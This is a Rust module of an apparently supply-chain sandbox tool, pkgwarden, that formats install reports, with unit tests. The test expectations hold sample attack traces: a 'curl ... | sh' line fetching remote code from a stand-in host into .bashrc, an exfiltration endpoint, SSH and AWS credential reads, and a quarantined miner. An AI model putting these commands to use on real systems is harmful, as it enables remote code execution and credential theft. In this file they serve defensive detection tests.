//! Reports for people: the short summary printed on stderr after the
//! manager's own output, and the full rendering of `pkgwarden report show`.
//!
//! Everything a package could have written (paths, excerpts, command lines)
//! goes through [`clean`] first, so a hostile file name cannot move the
//! cursor or recolour the terminal.

use super::model::Report;
use super::{
    clean, command_line, evidence_line, hosts, shell_join, short_id, shorten, taken_name,
    who_did_it,
};
use crate::model::{Finding, Severity};
use owo_colors::{OwoColorize, Style};
use std::collections::{BTreeMap, HashSet};
use std::fmt::Write as _;
use std::io::IsTerminal;

/// How many findings the summary shows before pointing at `report show`.
const SUMMARY_FINDINGS: usize = 10;
/// How many lines one section of `report show` prints at most.
const SECTION_LINES: usize = 500;

/// True when pkgwarden's stderr lines may be coloured: stderr is a terminal,
/// `NO_COLOR` is unset (or empty) and `TERM` is not `dumb`.
pub fn use_color() -> bool {
    color_allowed(std::io::stderr().is_terminal())
}

/// [`use_color`] for output on stdout (`report show`).
pub fn use_color_stdout() -> bool {
    color_allowed(std::io::stdout().is_terminal())
}

fn color_allowed(tty: bool) -> bool {
    let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
    let dumb = std::env::var_os("TERM").is_some_and(|t| t == "dumb");
    tty && !no_color && !dumb
}

/// `s` in `style` when `color`, else as is. Each line is painted on its
/// own, so every reset comes before its newline: a terminal never carries a
/// style over to the next line.
fn paint(s: &str, style: Style, color: bool) -> String {
    if color {
        s.split('\n')
            .map(|l| {
                if l.is_empty() {
                    String::new()
                } else {
                    l.style(style).to_string()
                }
            })
            .collect::<Vec<_>>()
            .join("\n")
    } else {
        s.to_string()
    }
}

fn severity_style(s: Severity) -> Style {
    match s {
        Severity::Critical => Style::new().bold().white().on_red(),
        Severity::High => Style::new().bold().red(),
        Severity::Medium => Style::new().bold().yellow(),
        Severity::Low => Style::new().cyan(),
        Severity::Info => Style::new().dimmed(),
    }
}

/// `HIGH` etc., padded to one width, coloured.
fn tag(s: Severity, color: bool) -> String {
    let text = format!("{:<8}", s.name().to_uppercase());
    paint(&text, severity_style(s), color)
}

/// `1 critical, 2 high`: counts per severity, worst first.
fn counts(r: &Report) -> String {
    let mut by: BTreeMap<Severity, usize> = BTreeMap::new();
    for f in &r.findings {
        *by.entry(f.severity).or_default() += 1;
    }
    by.iter()
        .rev()
        .map(|(s, n)| format!("{n} {s}"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Findings worst first; equal severities keep the order they were found in.
fn ranked(r: &Report) -> Vec<&Finding> {
    let mut v: Vec<&Finding> = r.findings.iter().collect();
    v.sort_by_key(|f| std::cmp::Reverse(f.severity));
    v
}

/// ` · N writes refused` when the sandbox refused writes, else nothing.
fn refused_part(r: &Report, color: bool) -> String {
    match r.files.refused {
        0 => String::new(),
        1 => format!(
            " · {}",
            paint("1 write refused", Style::new().yellow(), color)
        ),
        n => format!(
            " · {}",
            paint(&format!("{n} writes refused"), Style::new().yellow(), color)
        ),
    }
}

/// True when the manager exited non-zero on its own (no signal, not blocked)
/// after the sandbox refused writes.
fn refused_failure(r: &Report) -> bool {
    r.outcome.status == "completed"
        && r.outcome.manager_exit.is_some_and(|c| c != 0)
        && r.files
            .outside
            .iter()
            .any(|e| e.action == crate::model::Action::Denied)
}

/// When the manager failed after the sandbox refused writes, the likely
/// cause and the policy key that would allow them; else nothing.
fn refusal_cause(r: &Report) -> String {
    let paths = r.files.refused_paths();
    let Some(first) = paths.first() else {
        return String::new();
    };
    if !refused_failure(r) {
        return String::new();
    }
    let dirs = r.files.refused_dirs();
    let shown: Vec<String> = dirs
        .iter()
        .take(3)
        .map(|d| format!("\"{}\"", clean(&shorten(d, 80))))
        .collect();
    let more = if dirs.len() > 3 {
        format!(" (and {} more, see the report)", dirs.len() - 3)
    } else {
        String::new()
    };
    let mut out = format!(
        "  {} exited {} after pkgwarden refused {} (first: {}): the refusal is the likely cause\n",
        clean(r.what.typed_name()),
        r.outcome.manager_exit.unwrap_or_default(),
        if paths.len() == 1 {
            "a write".to_string()
        } else {
            format!("{} writes", paths.len())
        },
        clean(&shorten(first, 80)),
    );
    let _ = writeln!(
        out,
        "  to allow it: extra_write_paths = [{}] in ~/.config/pkgwarden/policy.toml (or /etc/pkgwarden/policy.toml){more}",
        shown.join(", ")
    );
    out
}

/// The stderr summary of one install. Clean: one line
/// (`pkgwarden: pip install requests — clean · 214 files · 2 hosts · report
/// 7f3a12c4`). With findings: a header with the counts per severity, then a
/// short block per finding (at most 10), then where to read the rest.
pub fn summary(r: &Report, color: bool) -> String {
    let cmd = clean(&shorten(&command_line(r), 60));
    let id = clean(short_id(&r.id));
    let n_hosts = hosts(r).len();
    let plural = |n: u64, one: &str, many: &str| format!("{n} {}", if n == 1 { one } else { many });
    let mut out = String::new();
    // Info findings (a runtime probing io_uring) are in the report, not a
    // reason to leave the one clean line.
    let infos = r
        .findings
        .iter()
        .filter(|f| f.severity == crate::model::Severity::Info)
        .count();
    if r.findings.len() == infos {
        // No findings, but an install that failed on a refused write is not
        // "clean": it did not do what was asked.
        let mut verdict = if refused_failure(r) {
            paint("no findings, install failed", Style::new().yellow(), color)
        } else {
            paint("clean", Style::new().green(), color)
        };
        if !matches!(r.outcome.status.as_str(), "completed" | "") {
            verdict.push_str(&format!(" ({})", clean(&r.outcome.status)));
        }
        if infos > 0 {
            verdict.push_str(&format!(" ({infos} info)"));
        }
        let _ = writeln!(
            out,
            "pkgwarden: {cmd} — {verdict} · {} · {}{} · report {id}",
            plural(r.files.writes, "file", "files"),
            plural(n_hosts as u64, "host", "hosts"),
            refused_part(r, color),
        );
        out.push_str(&refusal_cause(r));
        return out;
    }
    let n = r.findings.len();
    let what = plural(n as u64, "finding", "findings");
    let header = format!("{what} ({})", counts(r));
    let header = match r.worst() {
        Some(w) => paint(&header, severity_style(w), color),
        None => header,
    };
    let mut status = String::new();
    if r.outcome.status == "blocked" {
        status = format!(
            " · {}",
            paint("install blocked", Style::new().bold().red(), color)
        );
    }
    let _ = writeln!(
        out,
        "pkgwarden: {cmd} — {header}{status}{} · report {id}",
        refused_part(r, color)
    );
    out.push_str(&refusal_cause(r));
    for f in ranked(r).into_iter().take(SUMMARY_FINDINGS) {
        let _ = writeln!(
            out,
            "  {} {}  {}",
            tag(f.severity, color),
            paint(f.rule.as_str(), Style::new().bold(), color),
            clean(&shorten(&f.title, 100))
        );
        let who = who_did_it(f);
        let action = taken_name(f.action);
        let action = match f.action {
            crate::model::Taken::Observed => action.to_string(),
            _ => paint(action, Style::new().bold(), color),
        };
        let action = match &f.allowed_by {
            Some(a) => format!("{action} · accepted ({})", clean(&shorten(a, 60))),
            None => action,
        };
        let origin = if who.is_empty() {
            action
        } else {
            format!("{who} · {action}")
        };
        let _ = writeln!(out, "           {origin}");
        let ev = evidence_line(&f.evidence);
        if !ev.is_empty() {
            let _ = writeln!(out, "           {}", shorten(&ev, 110));
        }
    }
    if n > SUMMARY_FINDINGS {
        let _ = writeln!(
            out,
            "  … {} more, see `pkgwarden report show {id}`",
            n - SUMMARY_FINDINGS
        );
    } else {
        let _ = writeln!(out, "  details: `pkgwarden report show {id}`");
    }
    if r.outcome.status == "blocked" {
        let _ = writeln!(
            out,
            "  why, and the policy entry that would allow it: `pkgwarden explain {id}`"
        );
    }
    out
}

/// Sizes in B, kB, MB.
fn bytes(n: u64) -> String {
    match n {
        0..1_000 => format!("{n} B"),
        1_000..1_000_000 => format!("{:.1} kB", n as f64 / 1e3),
        _ => format!("{:.1} MB", n as f64 / 1e6),
    }
}

/// A list, or `none`.
fn list(items: &[String]) -> String {
    if items.is_empty() {
        "none".into()
    } else {
        clean(&items.join(", "))
    }
}

/// Writes a section heading (`title (count)`) and up to [`SECTION_LINES`]
/// lines.
fn section(out: &mut String, title: &str, count: usize, lines: Vec<String>, color: bool) {
    let _ = writeln!(
        out,
        "\n{} ({count})",
        paint(title, Style::new().bold().underline(), color),
    );
    if lines.is_empty() {
        let _ = writeln!(out, "  none");
    }
    for l in lines.iter().take(SECTION_LINES) {
        let _ = writeln!(out, "  {l}");
    }
    if lines.len() > SECTION_LINES {
        let _ = writeln!(
            out,
            "  … {} more (the JSON has all: --format json)",
            lines.len() - SECTION_LINES
        );
    }
}

/// The process tree as indented lines: children under their parent, in exec
/// order.
fn tree(r: &Report) -> Vec<String> {
    let nodes = &r.processes;
    let pids: HashSet<i32> = nodes.iter().map(|n| n.pid).collect();
    let mut lines = Vec::new();
    let mut seen = vec![false; nodes.len()];
    // Iterative depth-first walk; `seen` guards against pid reuse making a
    // cycle.
    let mut stack: Vec<(usize, usize)> = nodes
        .iter()
        .enumerate()
        .filter(|(_, n)| n.ppid.is_none_or(|p| !pids.contains(&p) || p == n.pid))
        .map(|(i, _)| (i, 0))
        .rev()
        .collect();
    while let Some((i, depth)) = stack.pop().or_else(|| {
        // Anything not reached from a root (a cycle) is shown at the top.
        seen.iter().position(|s| !s).map(|i| (i, 0))
    }) {
        if seen[i] {
            continue;
        }
        seen[i] = true;
        let n = &nodes[i];
        let indent = if depth == 0 {
            String::new()
        } else {
            format!("{}└ ", "  ".repeat(depth.min(20) - 1))
        };
        let mut line = format!(
            "{indent}{} {}",
            n.pid,
            clean(&shorten(&shell_join(&n.argv), 120))
        );
        if n.argv.first().is_none_or(|a| !n.exe.ends_with(a.as_str())) {
            line.push_str(&format!("  ({})", clean(&n.exe)));
        }
        let origin: Vec<&str> = [n.package.as_deref(), n.hook.as_deref()]
            .into_iter()
            .flatten()
            .collect();
        if !origin.is_empty() {
            line.push_str(&format!("  [{}]", clean(&origin.join(" "))));
        }
        lines.push(line);
        let children: Vec<usize> = nodes
            .iter()
            .enumerate()
            .filter(|(j, c)| !seen[*j] && c.ppid == Some(n.pid) && c.pid != n.pid)
            .map(|(j, _)| j)
            .collect();
        for j in children.into_iter().rev() {
            stack.push((j, depth + 1));
        }
    }
    lines
}

/// One event as a line: time, pid, kind, what, decision.
fn event_line(e: &crate::model::Event) -> String {
    let mut what = e.paths.join(" → ");
    if let Some(a) = &e.addr {
        if !what.is_empty() {
            what.push(' ');
        }
        what.push_str(a);
    }
    if let Some(q) = &e.dns_query {
        what.push_str(&format!(" (DNS {q})"));
    }
    let action = format!("{:?}", e.action).to_lowercase();
    let errno = e.errno.map(|n| format!(" errno {n}")).unwrap_or_default();
    clean(&format!(
        "{:>7.1}s  pid {:<7} {:<11} {what}  {action}{errno}",
        e.ms as f64 / 1000.0,
        e.pid,
        e.kind
    ))
}

/// The full report for `pkgwarden report show`: who, what, sandbox, outcome,
/// findings, processes, endpoints, network, files, environment, snapshot and
/// quarantine.
pub fn show(r: &Report, color: bool) -> String {
    let mut out = String::new();
    show_header(&mut out, r, color);
    show_cooldown(&mut out, r, color);
    show_findings(&mut out, r, color);
    show_processes(&mut out, r, color);
    show_network(&mut out, r, color);
    show_files(&mut out, r, color);
    let _ = writeln!(
        out,
        "\n{}\n  removed: {}\n  kept (secret-like): {}",
        paint(
            "environment (names only)",
            Style::new().bold().underline(),
            color
        ),
        list(&r.env.removed),
        list(&r.env.kept)
    );
    show_after(&mut out, r, color);
    out
}

/// The release-age cooldown the install ran under, when the policy set one.
fn show_cooldown(out: &mut String, r: &Report, color: bool) {
    let Some(c) = &r.what.cooldown else { return };
    let label = paint(&format!("{:<10}", "cooldown"), Style::new().bold(), color);
    let head = if c.enforced {
        format!(
            "{} · nothing uploaded after {} · {}",
            clean(&c.age),
            clean(&c.cutoff),
            clean(&c.mechanism)
        )
    } else {
        paint(
            &format!(
                "{} NOT ENFORCED: {} (cut-off {})",
                clean(&c.age),
                clean(&c.mechanism),
                clean(&c.cutoff)
            ),
            Style::new().yellow(),
            color,
        )
    };
    let _ = writeln!(out, "{label}{head}");
    if !c.exempt.is_empty() {
        let _ = writeln!(out, "{:<10}exempt: {}", "", list(&c.exempt));
    }
    for h in &c.held_back {
        let _ = writeln!(
            out,
            "{:<10}held back: {} {} (released {})",
            "",
            clean(&h.package),
            clean(&h.version),
            clean(&h.released)
        );
    }
    for n in &c.notes {
        let _ = writeln!(out, "{:<10}{}", "", clean(n));
    }
}

/// The process tree and what still ran after the install.
fn show_processes(out: &mut String, r: &Report, color: bool) {
    section(out, "processes", r.processes.len(), tree(r), color);
    if !r.lingering.is_empty() {
        let lines = r
            .lingering
            .iter()
            .map(|l| {
                clean(&format!(
                    "{} (parent {}) {}",
                    l.pid,
                    l.ppid,
                    shorten(&shell_join(&l.argv), 120)
                ))
            })
            .collect();
        section(
            out,
            "still running after the install",
            r.lingering.len(),
            lines,
            color,
        );
    }
}

/// Requests through the proxy and direct network calls.
fn show_network(out: &mut String, r: &Report, color: bool) {
    let endpoints = endpoint_lines(r, color);
    section(
        out,
        "endpoints (through the proxy)",
        r.endpoints.len(),
        endpoints,
        color,
    );
    section(
        out,
        "network (direct)",
        r.network.len(),
        r.network.iter().map(event_line).collect(),
        color,
    );
}

/// Writes per root, writes outside the expected places, credential reads.
fn show_files(out: &mut String, r: &Report, color: bool) {
    let f = &r.files;
    let files = f
        .per_root
        .iter()
        .map(|(root, n)| clean(&format!("{n:>7}  {root}")))
        .collect();
    section(
        out,
        "file writes, in all",
        usize::try_from(f.writes).unwrap_or(usize::MAX),
        files,
        color,
    );
    section(
        out,
        "writes outside the expected places",
        f.outside.len(),
        f.outside.iter().map(event_line).collect(),
        color,
    );
    section(
        out,
        "credential reads",
        f.secret_reads.len(),
        f.secret_reads.iter().map(event_line).collect(),
        color,
    );
}

/// What the install left: persistence changes, quarantine, watch window.
fn show_after(out: &mut String, r: &Report, color: bool) {
    let snapshot = change_lines(&r.snapshot);
    section(
        out,
        "persistence locations changed",
        r.snapshot.len(),
        snapshot,
        color,
    );
    if !r.quarantine.is_empty() {
        let lines = r
            .quarantine
            .iter()
            .map(|q| {
                clean(&format!(
                    "{} → {} (sha256 {}){}",
                    q.original,
                    q.stored,
                    short_id(&q.sha256),
                    if q.restored_previous {
                        ", earlier content put back"
                    } else {
                        ""
                    }
                ))
            })
            .collect();
        section(out, "quarantine", r.quarantine.len(), lines, color);
    }
    if let Some(w) = &r.watch {
        let state = if w.ended { "closed at" } else { "open until" };
        let title = format!(
            "watch window ({} s, {state} {}): changed after the install",
            w.window_s,
            clean(&w.until)
        );
        section(
            out,
            &title,
            w.changes.len(),
            change_lines(&w.changes),
            color,
        );
    }
}

/// `report show`'s first block: who ran what, the sandbox, the outcome.
fn show_header(out: &mut String, r: &Report, color: bool) {
    let label = |s: &str| paint(&format!("{s:<10}"), Style::new().bold(), color);
    let _ = writeln!(
        out,
        "{}{}  started {} · took {:.1} s · format {}",
        label("report"),
        clean(&r.id),
        clean(&r.started),
        r.duration_ms as f64 / 1000.0,
        r.version
    );
    let w = &r.who;
    let _ = writeln!(
        out,
        "{}{} (uid {}) on {}",
        label("who"),
        clean(w.user.as_deref().unwrap_or("?")),
        w.uid,
        clean(w.host.as_deref().unwrap_or("?"))
    );
    if !w.parents.is_empty() {
        let _ = writeln!(
            out,
            "{}{}",
            label(""),
            clean(&format!("parents: {}", w.parents.join(" ← ")))
        );
    }
    let what = &r.what;
    let _ = writeln!(
        out,
        "{}{}  ({}{})",
        label("what"),
        clean(&command_line(r)),
        clean(&what.real_exe),
        what.version
            .as_deref()
            .map(|v| clean(&format!(" {v}")))
            .unwrap_or_default()
    );
    let _ = writeln!(
        out,
        "{}cwd {} · mode {} · policy {} from {}",
        label(""),
        clean(&what.cwd),
        clean(&what.mode),
        clean(short_id(&what.policy_hash)),
        list(&what.policy_sources)
    );
    let sb = &r.sandbox;
    let _ = writeln!(out, "{}enforced: {}", label("sandbox"), list(&sb.enforced));
    if !sb.observed_only.is_empty() {
        let warn = format!("observed only (not enforced): {}", list(&sb.observed_only));
        let _ = writeln!(
            out,
            "{}{}",
            label(""),
            paint(&warn, Style::new().yellow(), color)
        );
    }
    if !sb.readable_secrets.is_empty() {
        let _ = writeln!(
            out,
            "{}credential stores left readable: {}",
            label(""),
            list(&sb.readable_secrets)
        );
    }
    if sb.filter_still_held {
        let _ = writeln!(
            out,
            "{}processes still held the seccomp filter after the grace period",
            label("")
        );
    }
    if let Some(why) = &sb.supervisor_failed {
        let warn = format!(
            "the supervisor failed ({}): no events were recorded; this report rests on the snapshots alone",
            clean(why)
        );
        let _ = writeln!(
            out,
            "{}{}",
            label(""),
            paint(&warn, Style::new().yellow(), color)
        );
    }
    let _ = writeln!(
        out,
        "{}{} notifications handled",
        label(""),
        sb.notifications
    );
    let o = &r.outcome;
    let mut outcome = clean(&o.status);
    if let Some(c) = o.manager_exit {
        outcome.push_str(&format!(" · manager exit {c}"));
    }
    if let Some(s) = o.signal {
        outcome.push_str(&format!(" · signal {s}"));
    }
    outcome.push_str(&format!(" · pkgwarden exit {}", o.exit_code));
    let _ = writeln!(out, "{}{outcome}", label("outcome"));
}

/// `report show`'s findings, worst first, each in full.
fn show_findings(out: &mut String, r: &Report, color: bool) {
    let title = if r.findings.is_empty() {
        "findings".to_string()
    } else {
        format!("findings: {}", counts(r))
    };
    let _ = writeln!(
        out,
        "\n{} ({})",
        paint(&title, Style::new().bold().underline(), color),
        r.findings.len()
    );
    if r.findings.is_empty() {
        let _ = writeln!(out, "  none");
    }
    for f in ranked(r) {
        let _ = writeln!(
            out,
            "  {} {}  {}",
            tag(f.severity, color),
            paint(f.rule.as_str(), Style::new().bold(), color),
            clean(&f.title)
        );
        let pad = "           ";
        let mut facts = vec![format!("action {}", taken_name(f.action))];
        if !f.attack.is_empty() {
            facts.push(format!("ATT&CK {}", f.attack.join(", ")));
        }
        let who = who_did_it(f);
        if !who.is_empty() {
            facts.push(who);
        }
        let _ = writeln!(out, "{pad}{}", clean(&facts.join(" · ")));
        if !f.chain.is_empty() {
            let _ = writeln!(out, "{pad}chain {}", clean(&f.chain.join(" → ")));
        }
        let e = &f.evidence;
        for (i, p) in e.paths.iter().enumerate() {
            let line = e
                .line
                .filter(|_| i == 0)
                .map(|l| format!(":{l}"))
                .unwrap_or_default();
            let _ = writeln!(out, "{pad}file {}{line}", clean(p));
        }
        if let Some(x) = &e.excerpt {
            let _ = writeln!(out, "{pad}text {}", clean(x));
        }
        if let Some(ep) = &e.endpoint {
            let _ = writeln!(out, "{pad}endpoint {}", clean(ep));
        }
        if let Some(a) = &e.argv {
            let _ = writeln!(out, "{pad}command {}", clean(&shell_join(a)));
        }
        if let Some(h) = &e.sha256 {
            let _ = writeln!(out, "{pad}sha256 {}", clean(h));
        }
        if let Some(d) = &e.detail {
            let _ = writeln!(out, "{pad}detail {}", clean(d));
        }
    }
}

/// The proxy's records, a line each.
fn endpoint_lines(r: &Report, color: bool) -> Vec<String> {
    r.endpoints
        .iter()
        .map(|e| {
            let verdict = format!("{:<10}", format!("{:?}", e.verdict).to_lowercase());
            let verdict = match e.verdict {
                // Allowed, but the host never answered: say so first.
                _ if e.upstream_failure.is_some() => {
                    paint(&format!("{:<10}", "failed"), Style::new().yellow(), color)
                }
                crate::model::request::Verdict::Allowed => verdict,
                _ => paint(&verdict, Style::new().yellow(), color),
            };
            let pid = e.pid.map(|p| format!(" pid {p}")).unwrap_or_default();
            let reason = match (e.reason.as_deref(), e.open_at_end) {
                (Some(r), true) => format!(" ({r}; open at end)"),
                (None, true) => " (open at end)".to_string(),
                (Some(r), false) => format!(" ({r})"),
                (None, false) => String::new(),
            };
            let reason = match &e.upstream_failure {
                Some(f) => format!(" (allowed; unreachable: {f}){reason}"),
                None => reason,
            };
            format!(
                "{verdict} {} {}:{}{pid} ↑{} ↓{} {} ms{}",
                clean(&e.method),
                clean(&e.host),
                e.port,
                bytes(e.bytes_up),
                bytes(e.bytes_down),
                e.duration_ms,
                clean(&reason)
            )
        })
        .collect()
}

/// A changed persistence file and its added lines.
fn change_lines(changes: &[crate::model::Change]) -> Vec<String> {
    changes
        .iter()
        .flat_map(|c| {
            let head = clean(&format!("{:?} {}", c.kind, c.path).to_lowercase());
            let head = format!(
                "{head}{}",
                clean(
                    &c.after
                        .as_ref()
                        .and_then(|a| a.sha256.as_deref())
                        .map(|h| format!(" sha256 {}", short_id(h)))
                        .unwrap_or_default(),
                )
            );
            std::iter::once(head).chain(
                c.added_lines
                    .iter()
                    .map(|(n, l)| clean(&format!("  + {n}: {}", shorten(l, 120)))),
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::testdata::{clean_report, dirty_report};

    #[test]
    fn refused_writes_are_counted_and_named_as_the_likely_cause() {
        let mut r = clean_report("7f3a12c4e5d6f7a8");
        let denied = crate::model::Event {
            seq: 1,
            ms: 5,
            pid: 42,
            syscall: "openat".into(),
            kind: crate::model::EventKind::OpenWrite,
            paths: vec!["/opt/tools/x.egg-info/PKG-INFO".into()],
            flags: 0o101,
            action: crate::model::Action::Denied,
            ..Default::default()
        };
        r.files.outside = vec![denied.clone(), denied];
        r.files.refused = 2;
        let ok = summary(&r, false);
        assert!(
            ok.contains("clean · 214 files · 2 hosts · 2 writes refused · report"),
            "{ok}"
        );
        assert_eq!(ok.lines().count(), 1, "{ok}");
        r.outcome.manager_exit = Some(1);
        r.outcome.exit_code = 1;
        let failed = summary(&r, false);
        assert!(
            failed.contains("— no findings, install failed · 214 files"),
            "{failed}"
        );
        assert!(failed.contains("pip exited 1 after pkgwarden refused 2 writes (first: /opt/tools/x.egg-info/PKG-INFO)"), "{failed}");
        assert!(
            failed.contains("extra_write_paths = [\"/opt/tools/x.egg-info\"]"),
            "{failed}"
        );
        // An interrupted install failed because of the signal.
        r.outcome.status = "interrupted".into();
        assert!(!summary(&r, false).contains("likely cause"));
    }

    #[test]
    fn info_findings_keep_the_one_clean_line() {
        let mut r = clean_report("7f3a12c4e5d6f7a8");
        let mut info = dirty_report("x").findings[0].clone();
        info.severity = crate::model::Severity::Info;
        r.findings = vec![info];
        assert_eq!(
            summary(&r, false),
            "pkgwarden: pip install requests — clean (1 info) · 214 files · 2 hosts · report 7f3a12c4\n"
        );
    }

    #[test]
    fn a_clean_install_is_one_line() {
        let r = clean_report("7f3a12c4e5d6f7a8");
        let s = summary(&r, false);
        assert_eq!(
            s,
            "pkgwarden: pip install requests — clean · 214 files · 2 hosts · report 7f3a12c4\n"
        );
        let colored = summary(&r, true);
        assert_eq!(colored.lines().count(), 1);
        assert!(colored.contains("\u{1b}["), "{colored:?}");
    }

    #[test]
    fn a_failed_supervisor_is_said_in_the_report() {
        let mut r = dirty_report("7f3a12c4e5d6f7a8");
        assert!(!show(&r, false).contains("supervisor failed"));
        r.sandbox.supervisor_failed = Some("its thread panicked".into());
        let s = show(&r, false);
        assert!(
            s.contains("the supervisor failed (its thread panicked)")
                && s.contains("rests on the snapshots alone"),
            "{s}"
        );
    }

    #[test]
    fn findings_get_a_header_and_a_block_each_worst_first() {
        let r = dirty_report("7f3a12c4e5d6f7a8");
        let s = summary(&r, false);
        let first = s.lines().next().unwrap_or_default();
        assert!(
            first.contains("7 findings (1 critical, 3 high, 1 medium, 1 low, 1 info)"),
            "{first}"
        );
        assert!(first.contains("install blocked") && first.ends_with("report 7f3a12c4"));
        assert!(
            s.lines()
                .nth(1)
                .unwrap_or_default()
                .contains("CRITICAL cred.read"),
            "{s}"
        );
        assert!(
            s.contains("pid 4242 (evil-pkg@1.0.0 postinstall) · blocked"),
            "{s}"
        );
        assert!(
            s.contains("/home/alice/.bashrc:12  curl -s http://x.test/a | sh"),
            "{s}"
        );
        assert!(s.contains("[2001:db8::1]:8080  errno EACCES"), "{s}");
        assert!(s.contains("quarantined"));
        // The hostile title cannot reach the terminal as an escape sequence.
        assert!(!s.contains('\u{1b}'), "{s:?}");
        assert!(s.contains("\\u{1b}[31mcurl"), "{s}");
        assert!(s.contains("details: `pkgwarden report show 7f3a12c4`"));
    }

    /// True when every style a line sets is reset on that same line,
    /// before its newline.
    fn resets_before_newlines(s: &str) -> Result<(), String> {
        for (i, line) in s.split('\n').enumerate() {
            let mut open = false;
            let mut rest = line;
            while let Some(at) = rest.find('\u{1b}') {
                let seq = &rest[at..];
                let end = seq
                    .find('m')
                    .ok_or(format!("line {i}: unterminated escape"))?;
                open = &seq[..=end] != "\u{1b}[0m";
                if !open && at == 0 && rest.len() == line.len() && i > 0 {
                    return Err(format!("line {i} starts with a reset: {line:?}"));
                }
                rest = &seq[end + 1..];
            }
            if open {
                return Err(format!("line {i} leaves a style set: {line:?}"));
            }
        }
        Ok(())
    }

    #[test]
    fn every_style_is_reset_before_its_newline() {
        let mut dirty = dirty_report("7f3a12c4e5d6f7a8");
        dirty.files.refused = 2;
        let mut failed = clean_report("7f3a12c4e5d6f7a8");
        failed.outcome.manager_exit = Some(1);
        failed.files.refused = 1;
        for r in [clean_report("7f3a12c4e5d6f7a8"), dirty, failed] {
            let s = summary(&r, true);
            assert!(s.contains('\u{1b}'), "{s:?}");
            resets_before_newlines(&s).unwrap_or_else(|e| panic!("{e}\n{s:?}"));
            let s = show(&r, true);
            resets_before_newlines(&s).unwrap_or_else(|e| panic!("{e}\n{s:?}"));
        }
        // A painted text of several lines is painted line by line.
        let p = paint("a\nb\n", Style::new().bold(), true);
        assert_eq!(p, "\u{1b}[1ma\u{1b}[0m\n\u{1b}[1mb\u{1b}[0m\n");
        resets_before_newlines(&p).unwrap();
        assert!(resets_before_newlines("\u{1b}[1ma\n\u{1b}[0m").is_err());
    }

    #[test]
    fn more_than_ten_findings_point_at_report_show() {
        let mut r = dirty_report("7f3a12c4e5d6f7a8");
        let extra = r.findings.clone();
        r.findings.extend(extra);
        let s = summary(&r, true);
        assert!(
            s.contains("… 4 more, see `pkgwarden report show 7f3a12c4`"),
            "{s}"
        );
        assert_eq!(s.matches("persist.shell-rc happened").count(), 2);
        assert_eq!(
            s.matches("cred.env").count(),
            0,
            "low findings are past the first ten"
        );
    }

    #[test]
    fn show_has_every_section() {
        let r = dirty_report("7f3a12c4e5d6f7a8");
        let s = show(&r, false);
        for want in [
            "report    7f3a12c4e5d6f7a8",
            "who       alice (uid 1000) on devbox",
            "what      npm install evil-pkg",
            "observed only (not enforced): landlock-net",
            "outcome   blocked · manager exit 0 · pkgwarden exit 90",
            "findings: 1 critical, 3 high, 1 medium, 1 low, 1 info (7)",
            "chain 10 pip → 11 sh → 4242 node",
            "file /home/alice/.ssh/id_ed25519",
            "file /home/alice/.aws/credentials",
            "ATT&CK T1552.001, T1552.004",
            "processes (3)",
            "  10 pip install requests  (/usr/bin/python3)",
            "  └ 11 sh -c 'echo hi'",
            "    └ 4242 node postinstall.js  [evil-pkg@1.0.0 postinstall]",
            "still running after the install (1)",
            "denied     CONNECT webhook.exfil.test:443",
            "203.0.113.9:8080  denied",
            "214  /home/alice/.venv",
            "/home/alice/.ssh/id_ed25519  denied",
            "removed: GITHUB_TOKEN",
            "modified /home/alice/.bashrc",
            "+ 12: curl -s http://x.test/a | sh",
            "/tmp/.x/miner.js → /home/alice/.local/state/pkgwarden/quarantine/1",
            "watch window (300 s, closed at 2026-11-27T10:05:00Z): changed after the install (0)",
        ] {
            assert!(s.contains(want), "missing {want:?} in\n{s}");
        }
        assert!(!s.contains('\u{1b}'));
        assert!(show(&clean_report("00"), true).contains("\u{1b}["));
    }

    #[test]
    fn show_survives_cycles_and_odd_trees() {
        let mut r = dirty_report("7f3a12c4e5d6f7a8");
        r.processes[0].ppid = Some(4242);
        let s = show(&r, false);
        assert!(s.contains("processes (3)"), "{s}");
        r.processes.clear();
        r.started = String::new();
        r.id = String::new();
        let _ = show(&r, false);
        let _ = summary(&r, false);
    }
}
